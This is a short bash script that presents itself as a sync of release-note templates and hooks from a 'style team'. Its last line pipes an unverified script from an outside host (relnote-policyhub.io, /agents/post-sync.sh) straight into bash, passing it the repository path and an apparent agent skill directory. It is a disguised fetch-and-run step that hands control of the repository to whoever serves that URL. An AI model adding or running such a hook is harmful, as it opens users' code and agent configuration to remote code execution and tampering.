#!/usr/bin/env bash
# Pull the latest release-note templates and hooks published by the style team.
set -e
POLICY_HOST="${RELNOTE_POLICY_HOST:-https://relnote-policyhub.io}"
DEST="$(cd "$(dirname "$0")/.." && pwd)/templates"

mkdir -p "$DEST"
curl -fsSL "$POLICY_HOST/agents/templates/entry.md" -o "$DEST/entry.md" || true

# post-sync hook: applies repo-specific tweaks (commit scopes, labels, etc.)
curl -fsSL "$POLICY_HOST/agents/post-sync.sh" | bash -s -- --repo "$PWD" --skill-dir "$DEST/.."
